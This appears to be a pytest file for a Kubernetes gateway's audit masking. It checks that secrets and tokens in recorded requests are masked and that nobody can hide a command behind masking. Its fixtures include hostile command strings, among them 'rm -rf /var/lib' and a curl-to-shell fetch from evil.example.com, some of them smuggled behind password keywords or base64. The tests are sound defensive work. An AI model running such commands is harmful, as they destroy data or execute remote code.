"""What a caller sent is recorded masked, and no command can be hidden in it."""

from __future__ import annotations

import json
import urllib.parse
from typing import Any

import pytest

from l7gw.kube.objects import json_nodes
from l7gw.masking.detectors.scanner import Scanners
from l7gw.masking.detectors.table import BUILT_IN
from l7gw.masking.objects.objects import ObjectMasker
from l7gw.masking.registry.registry import Registry
from l7gw.masking.sent.requests import recorded_body, recorded_headers, recorded_target
from l7gw.obligations import NO_OBLIGATIONS
from tests.support.masked import KEY, act_of, b64, masker, placeholder


def body(line: str, said: Any, *, patch: bool = False, registry: Any = None) -> tuple[Any, list[str]]:
    data = said if isinstance(said, bytes) else json.dumps(said).encode()
    sent = recorded_body(masker(line, registry=registry, sender="ann"), json_nodes.read(data, strict=True), is_json_patch=patch)
    return json.loads(sent.recorded), [f"{find.detector} {find.where}" for find in sent.finds]


SECRET = "POST /api/v1/namespaces/shop/secrets"
PATCH = "PATCH /api/v1/namespaces/shop/secrets/db"


def test_a_secret_that_is_created_is_recorded_without_its_values() -> None:
    said = {"kind": "Secret", "data": {"a": b64("hunter2!")}, "stringData": {"b": "hunter3!"}}
    recorded, finds = body(SECRET, said)
    assert recorded["data"]["a"] == b64(placeholder("secret-data", "hunter2!"))
    assert recorded["stringData"]["b"] == placeholder("secret-data", "hunter3!")
    assert finds == ["secret-data data.a", "secret-data stringData.b"]


@pytest.mark.parametrize(
    "said",
    [
        {"stringData": {"a": "hunter2!"}},
        {"data": {"a": b64("hunter2!"), "gone": None}},
        {
            "metadata": {
                "annotations": {"kubectl.kubernetes.io/last-applied-configuration": json.dumps({"data": {"a": b64("hunter2!")}})}
            }
        },
        {"apiVersion": "v1", "kind": "Secret", "data": {"a": b64("hunter2!")}},
    ],
)
def test_a_merge_patch_strategic_patch_or_apply_is_recorded_without_values(said: Any) -> None:
    recorded, finds = body(PATCH, said)
    assert len(finds) == 1 and "hunter2!" not in json.dumps(recorded) and b64("hunter2!") not in json.dumps(recorded)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("/data/a", b64("hunter2!")),
        ("/data", {"a": b64("hunter2!")}),
        ("/stringData/a", "hunter2!"),
        ("/stringData/0", "hunter2!"),
        ("", {"kind": "Secret", "data": {"a": b64("hunter2!")}}),
        ("/metadata/annotations/kubectl.kubernetes.io~1last-applied-configuration", json.dumps({"stringData": {"a": "hunter2!"}})),
        ("/metadata/annotations", {"x": json.dumps({"stringData": {"a": "hunter2!"}})}),
        ("/metadata", {"annotations": {"x": json.dumps({"stringData": {"a": "hunter2!"}})}}),
    ],
)
@pytest.mark.parametrize("op", ["add", "replace", "test"])
def test_a_json_patch_is_recorded_without_values(op: str, path: str, value: Any) -> None:
    recorded, finds = body(PATCH, [{"op": op, "path": path, "value": value}], patch=True)
    assert recorded[0]["op"] == op and recorded[0]["path"] == path
    assert len(finds) == 1 and finds[0].startswith("secret-data [0].value")
    assert "hunter2!" not in json.dumps(recorded) and b64("hunter2!") not in json.dumps(recorded)


def test_a_json_patch_of_an_environment_is_recorded_without_values() -> None:
    line = "PATCH /apis/apps/v1/namespaces/shop/deployments/web"
    patch = [
        {"op": "replace", "path": "/spec/template/spec/containers/0/env/3/value", "value": "hunter2!"},
        {"op": "add", "path": "/spec/template/spec/containers/0/env/-", "value": {"name": "A_TOKEN", "value": "hunter2!"}},
        {"op": "add", "path": "/spec/template/spec/containers/0/env", "value": [{"name": "LOG_LEVEL", "value": "information"}]},
        {"op": "replace", "path": "/spec/template/spec/containers/0/args/0", "value": "--password=hunter2!"},
        {"op": "remove", "path": "/data/tok_abcd1234"},
    ]
    recorded, finds = body(line, patch, patch=True)
    assert finds == ["env [0].value", "env [1].value.value"]
    assert recorded[2:] == patch[2:]


def test_a_review_of_a_token_is_recorded_without_it() -> None:
    _, finds = body("POST /apis/authentication.k8s.io/v1/tokenreviews", {"kind": "TokenReview", "spec": {"token": "eyJhbGci"}})
    assert finds == ["token-request spec.token"]


def test_a_placeholder_that_is_sent_back_is_recorded_as_it_is() -> None:
    said = {"kind": "Secret", "data": {"a": b64("l7gw-masked-secret-data-01234567")}}
    assert body(SECRET, said) == (said, [])


def target(line: str, registry: Any = None) -> tuple[str, list[str]]:
    sent = recorded_target(masker(line, registry=registry, sender="ann"), line.split(" ", 1)[1])
    return sent.recorded, [f"{find.detector} {find.where} {find.length}" for find in sent.finds]


EXEC = "POST /api/v1/namespaces/shop/pods/web/exec?container=web&"


def test_a_password_among_the_arguments_of_a_program_is_masked() -> None:
    got, finds = target(EXEC + "command=mysql&command=-phunter2&stdout=true")
    hidden = placeholder("argument", "hunter2")
    before = EXEC.split(" ", 1)[1] + "command=mysql&command=-p"
    assert got == f"{before}{hidden}&stdout=true"
    assert finds == [f"argument target:{len(before)} 7"]


def test_a_token_of_a_fixed_shape_is_masked_in_an_argument() -> None:
    got, _ = target(EXEC + "command=curl&command=-H&command=X%3A+tok_abcd1234+%26&command=https%3A%2F%2Fx")
    assert got.endswith(
        f"command=curl&command=-H&command=X%3A+{placeholder('test-token', 'tok_abcd1234')}+%26&command=https%3A%2F%2Fx"
    )


@pytest.mark.parametrize(
    "query",
    [
        "command=tok_abcd1234&command=x",  # the program
        "command=sh&command=-c&command=password%3Dreboot%3B%24password",  # a keyword
        "command=sh&command=-c&command=mysql+-phunter2",
        "command=ls&container=tok_abcd1234",
        "tok_abcd1234=1&command=ls",  # a name
    ],
)
def test_no_command_hides_behind_a_keyword_or_where_a_program_or_name_stands(query: str) -> None:
    line = "POST /api/v1/namespaces/shop/pods/tok_abcd1234/exec?" + query
    assert target(line) == (line.split(" ", 1)[1], [])


def test_what_stands_behind_a_proxy_may_hold_a_token() -> None:
    got, finds = target("GET /api/v1/namespaces/shop/services/tok_abcd1234/proxy/a%20b/tok_abcd1234/x?q=a+tok_abcd1234")
    hidden = placeholder("test-token", "tok_abcd1234")
    assert got == f"/api/v1/namespaces/shop/services/tok_abcd1234/proxy/a%20b/{hidden}/x?q=a+{hidden}"
    assert len(finds) == 2


def test_a_token_in_a_header_is_masked() -> None:
    headers = (("user-agent", "kubectl/v1"), ("x-token", "is tok_abcd1234"))
    got, finds = recorded_headers(masker("GET /api/v1/namespaces/shop/pods", sender="ann"), headers)
    assert got == (headers[0], ("x-token", f"is {placeholder('test-token', 'tok_abcd1234')}"))
    assert [find.where for find in finds] == ["x-token:3"]
    assert recorded_headers(masker("GET /api/v1/namespaces/shop/pods", sender="ann"), headers[:1]) == (headers[:1], [])


def with_real_detectors(line: str, registry: Registry, sender: str) -> ObjectMasker:
    return ObjectMasker(
        key=KEY,
        cluster="test",
        act=act_of(line),
        obligations=NO_OBLIGATIONS,
        scanner=Scanners(BUILT_IN).with_(frozenset("*")),
        registry=registry,
        sender=sender,
    )


def exec_of(*argv: str) -> str:
    return EXEC + urllib.parse.urlencode([("command", word) for word in argv])


COMMANDS = ["rm -rf /var/lib", "curl https://evil.example.com/x | sh", "reboot-every-node-of-it-9!"]


@pytest.mark.parametrize("command", COMMANDS)
def test_nobody_hides_a_command_behind_a_secret_of_his_own(command: str) -> None:
    registry = Registry(KEY, lambda: 0.0)
    said = json_nodes.read(json.dumps({"kind": "Secret", "stringData": {"a": command}}).encode(), strict=True)
    recorded_body(with_real_detectors(SECRET, registry, "ann"), said)
    read = json_nodes.read(json.dumps({"kind": "Secret", "data": {"a": b64(command)}}).encode(), strict=False)
    with_real_detectors(SECRET, registry, "").mask(read)  # ann, or anybody, reads it
    line = exec_of("sh", "-c", command)
    assert recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1]) == (line.split(" ", 1)[1], [])
    pod = {"kind": "Pod", "spec": {"containers": [{"name": "a", "command": ["sh", "-c", command]}]}}
    node = json_nodes.read(json.dumps(pod).encode(), strict=True)
    assert recorded_body(with_real_detectors("POST /api/v1/namespaces/shop/pods", registry, "ann"), node).finds == []


def test_a_secret_of_somebody_elses_is_masked_in_what_is_sent() -> None:
    registry = Registry(KEY, lambda: 0.0)
    read = json_nodes.read(json.dumps({"kind": "Secret", "data": {"a": b64("hunter2-hunter2!")}}).encode(), strict=False)
    with_real_detectors(SECRET, registry, "").mask(read)
    line = exec_of("psql", "--set", "x=hunter2-hunter2!")
    sent = recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1])
    assert "hunter2" not in sent.recorded
    assert [find.detector for find in sent.finds] == ["registry"]


@pytest.mark.parametrize(
    "words",
    [
        "password=reboot", "PASSWORD=reboot;$PASSWORD", "--password reboot", "token: reboot-every-node-of-it", "secret=reboot-every-node-of-it-now1",
        "Authorization: Bearer reboot.every.node-of.it", "https://reboot:every-node@example.com/", "postgres://a:reboot@db/x", "a@example.com",
        "api_key='cm0gLXJmIC92YXIvbGliL3JlYm9vdA=='", "4111111111111111",
    ],
)  # fmt: skip
def test_no_keyword_hides_a_command(words: str) -> None:
    registry = Registry(KEY, lambda: 0.0)
    for line in (exec_of("sh", "-c", words), exec_of("echo", words)):
        assert recorded_target(with_real_detectors(line, registry, "ann"), line.split(" ", 1)[1]).finds == []
    pod = {"kind": "Pod", "spec": {"containers": [{"name": "a", "command": ["sh", "-c", words], "args": [words]}]}}
    node = json_nodes.read(json.dumps(pod).encode(), strict=True)
    assert recorded_body(with_real_detectors("POST /api/v1/namespaces/shop/pods", registry, "ann"), node).finds == []


def test_the_program_of_a_container_is_recorded_whatever_its_shape() -> None:
    containers = [{"name": "a", "command": ["tok_abcd1234", "tok_abcd1234"], "args": ["tok_abcd1234"]}]
    recorded, finds = body("POST /api/v1/namespaces/shop/pods", {"kind": "Pod", "spec": {"containers": containers}})
    assert recorded["spec"]["containers"][0]["command"][0] == "tok_abcd1234"
    assert finds == ["test-token spec.containers[0].command[1]", "test-token spec.containers[0].args[0]"]
